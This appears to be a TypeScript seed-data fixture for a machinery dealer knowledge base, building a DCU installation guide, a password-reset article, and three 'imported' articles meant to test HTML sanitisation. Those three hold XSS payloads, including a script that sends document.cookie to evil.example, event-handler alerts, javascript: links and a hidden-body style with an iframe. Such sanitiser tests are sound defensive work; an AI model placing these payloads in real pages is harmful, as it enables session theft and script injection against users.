import { DEFAULT_INSTALLATION_GUIDES_ARTICLE_ID } from '../services/remote-config';
import { makePdf } from './pdf';
import { dayStamp, doc, pdfFile, type KnowledgeSeed } from './knowledge-rows';

/** The password article the home screen's 160-day banner links (remote config default). */
export const PASSWORD_ARTICLE_ID = 'KA-PASSWORD-RESET';

/**
 * Articles imported from an older system whose HTML was never cleaned: the gateway must
 * sanitise them on the way out (scripts, event handlers, javascript: links).
 */
export const HOSTILE_ARTICLE_IDS = ['KA-900001', 'KA-900002', 'KA-900003'] as const;

function installationGuides(): KnowledgeSeed {
  const id = DEFAULT_INSTALLATION_GUIDES_ARTICLE_ID;
  const steps = [
    'Check the DCU part number against the machine model in the fitment table.',
    'Disconnect the battery negative cable.',
    'Mount the DCU on the cab rear bracket with the antenna facing up; torque the M6 nuts to 8 N-m.',
    'Connect the 12-pin harness to the diagnostic connector tee.',
    'Reconnect the battery and turn the key on: the DCU status LED blinks green within 2 minutes.',
    'Pair the DCU with the machine in the app: Machine Telematics Install, scan the IMEI, enter engine hours.',
  ];
  return {
    documents: [
      doc({
        id,
        title: 'DCU Installation Guides',
        body_html:
          '<h2>Telematics unit (DCU) installation</h2>' +
          '<p>Installation guides for the data communication unit (DCU) on every model family. ' +
          'Read the guide for your model before fitting the unit.</p>' +
          `<ol>${steps.map((s) => `<li>${s}</li>`).join('')}</ol>` +
          '<p><strong>Safety:</strong> Disconnect the battery before connecting the harness.</p>',
        document_type: 'Article',
        file_type: 'html',
        category_level1: 'Service',
        category_level2: 'Telematics',
        category_level3: 'DCU',
        category_level4: 'Installation',
        commonproduct: null,
        manual_section: null,
        campaign_name: null,
        updated_at: dayStamp(1300),
      }),
    ],
    files: [pdfFile(id, 0, 'DCU Installation Guide', makePdf('DCU Installation Guide', steps))],
  };
}

function passwordArticle(): KnowledgeSeed {
  return {
    documents: [
      doc({
        id: PASSWORD_ARTICLE_ID,
        title: 'How to reset your password',
        body_html:
          '<h2>Reset your password before it expires</h2>' +
          '<p>Your password expires every 180 days. The app warns you 160 days after the last ' +
          'change and again in the last 10 days.</p>' +
          '<ol><li>Open <strong>Home</strong> and press <strong>RESET MY PASSWORD</strong>, or go to ' +
          'the sign-in page and choose <em>Forgot password</em>.</li>' +
          '<li>Enter your user name (your email address).</li>' +
          '<li>Open the email you receive and follow the link within 30 minutes.</li>' +
          '<li>Choose a password of at least 12 characters that you have not used before.</li></ol>' +
          '<p>Locked out? Call the TSC with your dealer number.</p>',
        document_type: 'Article',
        file_type: 'html',
        category_level1: 'Support',
        category_level2: 'Account',
        category_level3: 'Sign-in',
        category_level4: 'Password',
        commonproduct: null,
        manual_section: null,
        campaign_name: null,
        updated_at: dayStamp(1350),
      }),
    ],
    files: [],
  };
}

function hostileArticles(): KnowledgeSeed {
  const common = {
    document_type: 'Article' as const,
    file_type: 'html',
    category_level1: 'Service',
    category_level2: 'Compact Tractors',
    category_level3: 'Attachments',
    category_level4: 'Front Loader',
    commonproduct: 'Compact Tractor',
    manual_section: null,
    campaign_name: null,
  };
  const [a, b, c] = HOSTILE_ARTICLE_IDS;
  return {
    documents: [
      doc({
        ...common,
        id: a,
        title: 'Loader joystick calibration (imported)',
        body_html:
          '<h2>Calibration</h2><p>Hold the joystick in neutral and press the calibration switch.</p>' +
          '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>' +
          '<p onclick="alert(1)">Release the switch after the beep.</p>',
        updated_at: dayStamp(400),
      }),
      doc({
        ...common,
        id: b,
        title: 'Loader bucket level indicator adjustment (imported)',
        body_html:
          '<h2>Adjustment</h2><p>Set the indicator rod with the bucket flat on the ground.</p>' +
          '<img src="x" onerror="alert(document.domain)">' +
          '<p><a href="javascript:alert(1)">Open the adjustment chart</a></p>' +
          '<p><a href="https://example.com/loader-chart">Loader chart</a></p>',
        updated_at: dayStamp(410),
      }),
      doc({
        ...common,
        id: c,
        title: 'Loader quick coupler pins (imported)',
        body_html:
          '<h2>Quick coupler</h2><style>body{display:none}</style>' +
          '<iframe src="https://evil.example/frame"></iframe>' +
          '<p>Grease the coupler pins every 10 hours.</p>' +
          '<a href="JaVaScRiPt:alert(1)">chart</a><svg onload="alert(1)"></svg>',
        updated_at: dayStamp(420),
      }),
    ],
    files: [],
  };
}

/** The documents every install has, whatever the size. */
export function fixedKnowledge(): KnowledgeSeed {
  const parts = [installationGuides(), passwordArticle(), hostileArticles()];
  return {
    documents: parts.flatMap((p) => p.documents),
    files: parts.flatMap((p) => p.files),
  };
}
